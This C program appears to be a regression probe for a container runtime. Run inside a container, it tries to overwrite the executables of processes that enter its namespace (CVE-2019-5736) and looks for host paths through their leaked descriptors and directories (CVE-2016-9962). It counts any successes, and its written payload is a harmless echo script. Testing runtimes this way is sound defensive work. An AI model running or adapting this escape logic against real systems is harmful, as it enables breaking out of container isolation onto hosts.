// SPDX-License-Identifier: Apache-2.0
// grab SECONDS MARKER: from inside a container, goes for whatever process enters its pid namespace.
//
// It holds on to the program of each and tries to open it for writing again and again, also when
// the process is gone (CVE-2019-5736); and it tries every descriptor, root and working directory
// of each as a way to MARKER, a path on the host (CVE-2016-9962).
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SLOTS = 64 };

static struct {
    int fd;
    dev_t dev;
    ino_t ino;
} held[SLOTS];
static int count;
static long tries, writes, escapes;
static struct stat own;

static void overwrite(const char *path, int flags) {
    tries++;
    int fd = open(path, O_WRONLY | O_CLOEXEC | flags);
    if (fd < 0) return;
    static const char evil[] = "#!/bin/sh\necho overwritten\n";
    if (pwrite(fd, evil, sizeof evil - 1, 0) > 0) {
        writes++;
        printf("WROTE %s\n", path);
        fflush(stdout);
    }
    close(fd);
}

static void hold(int fd) {
    struct stat st;
    if (fstat(fd, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino) || count == SLOTS) {
        close(fd);
        return;
    }
    for (int i = 0; i < count; i++) {
        if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
            close(fd);
            return;
        }
    }
    held[count].fd = fd;
    held[count].dev = st.st_dev;
    held[count++].ino = st.st_ino;
    printf("seen a program, inode %lu\n", (unsigned long)st.st_ino);
    fflush(stdout);
}

static void follow(const char *way, const char *marker) {
    int fd = open(way, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) return;
    for (int up = 0; up < 12; up++) {
        char path[512] = "";
        for (int i = 0; i < up; i++) strcat(path, "../");
        strncat(path, marker + 1, sizeof path - strlen(path) - 1);
        struct stat st;
        if (fstatat(fd, path, &st, 0) == 0) {
            escapes++;
            printf("ESCAPED by %s\n", way);
            fflush(stdout);
            break;
        }
    }
    close(fd);
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    stat("/proc/self/exe", &own);
    struct timespec now, end;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += atoi(argv[1]);
    puts("ready");
    fflush(stdout);
    do {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc != NULL && (entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0) hold(fd);
            overwrite(path, 0);
            snprintf(path, sizeof path, "/proc/%d/root", pid);
            follow(path, argv[2]);
            snprintf(path, sizeof path, "/proc/%d/cwd", pid);
            follow(path, argv[2]);
            for (int n = 0; n < 20; n++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
                follow(path, argv[2]);
            }
            if (pid != 1 && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                // Only a stopped one can be let go; one that is not would never end.
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                waitpid(pid, NULL, __WALL);
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
        if (proc != NULL) closedir(proc);
        for (int i = 0; i < count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            overwrite(path, 0);
            overwrite(path, O_APPEND);
        }
        while (waitpid(-1, NULL, WNOHANG) > 0) continue;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec < end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec < end.tv_nsec));
    printf("tries %ld writes %ld escapes %ld programs %d\n", tries, writes, escapes, count);
    return 0;
}
